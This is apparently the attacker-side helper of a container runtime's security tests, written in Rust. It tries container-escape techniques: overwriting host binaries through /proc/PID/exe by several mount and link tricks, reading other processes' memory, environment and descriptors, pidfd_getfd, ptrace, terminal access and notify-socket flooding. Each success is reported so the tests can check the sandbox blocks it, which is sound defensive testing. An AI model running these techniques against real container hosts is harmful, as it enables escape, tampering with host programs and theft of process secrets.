//! The attacker's side of the attack tests: runs inside a container and tries what busybox cannot.
//!
//! It prints one line for each thing that it got, `got WHAT ...`, and at the end `tried N`, the
//! number of processes or descriptors that it went for.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::time::{Duration, Instant};

use rustix::fs::{AtFlags, CWD, Mode, OFlags};
use rustix::mount::{MountFlags, MoveMountFlags, OpenTreeFlags};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags};

/// What is left in a program that could be overwritten.
const MARK: &[u8] = b"#!/overwritten\n";

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let seconds = |at: usize| {
        let text = args.get(at).map_or("2", String::as_str);
        Duration::from_secs_f64(text.parse().unwrap())
    };
    match args.get(1).map(String::as_str) {
        Some("overwrite") => overwrite(seconds(2)),
        Some("peek") => peek(seconds(2)),
        Some("descriptors") => descriptors(),
        Some("terminal") => terminal(),
        Some("notify") => notify(&args[2..]),
        // As a program's interpreter the machine code of the tests has opened /proc/self/exe, and
        // executes us with no arguments.
        None | Some(_) => held(3),
    }
}

/// The processes in sight that were not there at first.
fn pids() -> BTreeSet<i32> {
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .collect()
}

/// Whether the file is one of the root file system's programs.
fn own_program(meta: &fs::Metadata) -> bool {
    ["/bin/busybox", "/bin/attacker"].iter().any(|path| {
        fs::metadata(path).is_ok_and(|own| (own.dev(), own.ino()) == (meta.dev(), meta.ino()))
    })
}

/// Tries to write the file behind a descriptor by every way that there is; says which one worked.
fn write_through(fd: BorrowedFd<'_>) -> Option<&'static str> {
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    let write = |path: &str| {
        OpenOptions::new()
            .write(true)
            .open(path)
            .is_ok_and(|mut file| file.write_all(MARK).is_ok())
    };
    if write(&path) {
        return Some("open(O_WRONLY)");
    }
    if fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o666)).is_ok() {
        return Some("chmod");
    }
    if rustix::mount::mount_remount(&path, MountFlags::BIND, c"").is_ok() && write(&path) {
        return Some("remount");
    }
    let flags = OpenTreeFlags::OPEN_TREE_CLONE
        | OpenTreeFlags::OPEN_TREE_CLOEXEC
        | OpenTreeFlags::AT_EMPTY_PATH;
    if let Ok(tree) = rustix::mount::open_tree(fd, "", flags) {
        let copy = "/tmp/copy-of-it";
        let _ = File::create(copy);
        let flags = MoveMountFlags::MOVE_MOUNT_F_EMPTY_PATH;
        if rustix::mount::move_mount(&tree, "", CWD, copy, flags).is_ok() {
            let _ = rustix::mount::mount_remount(copy, MountFlags::BIND, c"");
            if write(copy) {
                return Some("a copy of the mount");
            }
            let _ = rustix::mount::unmount(copy, rustix::mount::UnmountFlags::DETACH);
        }
    }
    if rustix::mount::mount_bind(&path, "/tmp").is_ok() && write("/tmp") {
        return Some("a bind mount");
    }
    let name = "/tmp/name-of-it";
    if rustix::fs::linkat(CWD, path.as_str(), CWD, name, AtFlags::SYMLINK_FOLLOW).is_ok()
        && write(name)
    {
        return Some("a hard link");
    }
    None
}

/// Opens every program in sight that is not of this root, holds it, and writes it as soon as it no longer runs.
fn overwrite(limit: Duration) {
    let mut end = Instant::now() + limit;
    let mut held: Vec<OwnedFd> = Vec::new();
    let mut tried = 0_u64;
    let mut stopping = false;
    // A descriptor that was open before stays open when its process is gone.
    while Instant::now() < end {
        if !stopping && fs::metadata("/stop").is_ok() {
            stopping = true;
            end = Instant::now() + Duration::from_millis(500);
        }
        for pid in pids() {
            let path = format!("/proc/{pid}/exe");
            for flags in [OFlags::RDONLY, OFlags::PATH] {
                let Ok(fd) = rustix::fs::open(&path, flags | OFlags::CLOEXEC, Mode::empty()) else {
                    continue;
                };
                let file = File::from(fd);
                if file.metadata().is_ok_and(|meta| own_program(&meta)) {
                    continue;
                }
                tried += 1;
                if tried == 1 {
                    println!("met");
                }
                if held.len() < 64 {
                    held.push(file.into());
                }
            }
        }
        for fd in &held {
            if let Some(way) = write_through(fd.as_fd()) {
                println!("got exe by {way}");
                println!("tried {tried}");
                return;
            }
        }
    }
    println!("tried {tried}");
}

/// Writes what a descriptor that was inherited leads to, as soon as that is possible.
fn held(number: i32) {
    let end = Instant::now() + Duration::from_secs(2);
    println!("as interpreter");
    let path = format!("/proc/self/fd/{number}");
    let Ok(file) = File::open(path) else {
        return;
    };
    while Instant::now() < end {
        if let Some(way) = write_through(file.as_fd()) {
            println!("got exe by {way}");
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    println!("tried 1");
}

/// Looks into every process that comes into sight and is not yet a program of this root.
fn peek(limit: Duration) {
    let end = Instant::now() + limit;
    let own = fs::metadata("/").unwrap();
    let first = pids();
    let mut seen = BTreeSet::new();
    let mut got = BTreeSet::new();
    println!("looking");
    while Instant::now() < end {
        for pid in pids() {
            if first.contains(&pid) {
                continue;
            }
            let base = format!("/proc/{pid}");
            // Once it runs a program of the container it is the container's.
            let foreign = || match fs::metadata(format!("{base}/exe")) {
                Ok(meta) => !own_program(&meta),
                Err(error) => error.kind() == std::io::ErrorKind::PermissionDenied,
            };
            if !foreign() {
                continue;
            }
            if seen.insert(pid) && seen.len() == 1 {
                println!("met");
            }
            let mut note = |what: &str| {
                if foreign() {
                    got.insert(what.to_owned());
                }
            };
            if File::open(format!("{base}/exe")).is_ok() {
                note("exe");
            }
            for name in ["root", "cwd"] {
                if fs::metadata(format!("{base}/{name}"))
                    .is_ok_and(|meta| (meta.dev(), meta.ino()) != (own.dev(), own.ino()))
                {
                    note(name);
                }
            }
            if File::open(format!("{base}/mem")).is_ok() {
                note("mem");
            }
            for name in ["environ", "maps"] {
                if fs::read(format!("{base}/{name}")).is_ok_and(|text| !text.is_empty()) {
                    note(name);
                }
            }
            let mut numbers: BTreeSet<i32> = (3..12).collect();
            if let Ok(entries) = fs::read_dir(format!("{base}/fd")) {
                for entry in entries.flatten() {
                    numbers.extend(
                        entry
                            .file_name()
                            .to_str()
                            .and_then(|n| n.parse::<i32>().ok()),
                    );
                    if let Ok(target) = fs::read_link(entry.path()) {
                        note(&format!("fd {}", target.display()));
                    }
                }
            }
            let Some(pid) = Pid::from_raw(pid) else {
                continue;
            };
            if let Ok(pidfd) = rustix::process::pidfd_open(pid, PidfdFlags::empty()) {
                for number in numbers {
                    let flags = PidfdGetfdFlags::empty();
                    if rustix::process::pidfd_getfd(&pidfd, number, flags).is_ok() {
                        note("pidfd_getfd");
                    }
                }
            }
            let pid = nix::unistd::Pid::from_raw(pid.as_raw_nonzero().get());
            if nix::sys::ptrace::seize(pid, nix::sys::ptrace::Options::empty()).is_ok() {
                note("ptrace");
                // A traced process ends for its parent only when its tracer has seen it.
                let _ = nix::sys::ptrace::interrupt(pid);
                let _ = nix::sys::wait::waitpid(pid, Some(nix::sys::wait::WaitPidFlag::__WALL));
                let _ = nix::sys::ptrace::detach(pid, None);
            }
        }
        if fs::metadata("/stop").is_ok() {
            break;
        }
    }
    for what in got {
        println!("got {what}");
    }
    println!("tried {}", seen.len());
}

/// Lists what was inherited.
fn descriptors() {
    let mut tried = 0;
    for entry in fs::read_dir("/proc/self/fd").unwrap().flatten() {
        let number: i32 = entry.file_name().to_str().unwrap().parse().unwrap();
        let Ok(target) = fs::read_link(entry.path()) else {
            continue;
        };
        tried += 1;
        // The directory that is read here.
        let this = target
            .to_str()
            .is_some_and(|text| text.starts_with("/proc/") && text.ends_with("/fd"));
        if number > 2 && !this {
            println!("got fd {number} {}", target.display());
        }
    }
    println!("tried {tried}");
}

/// Asks for the caller's terminal.
fn terminal() {
    if OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags(0)
        .open("/dev/tty")
        .is_ok()
    {
        println!("got terminal");
    }
    println!("tried 1");
}

/// Sends texts to the notify socket; `@` stands for a datagram as large as can be.
fn notify(texts: &[String]) {
    let path = std::env::var("NOTIFY_SOCKET").unwrap();
    let socket = std::os::unix::net::UnixDatagram::unbound().unwrap();
    for text in texts {
        let data = match text.as_str() {
            "@" => vec![b'x'; 180_000],
            text => text.replace("\\n", "\n").into_bytes(),
        };
        let sent = socket.send_to(&data, &path);
        println!("sent {sent:?}");
    }
    println!("tried {}", texts.len());
}
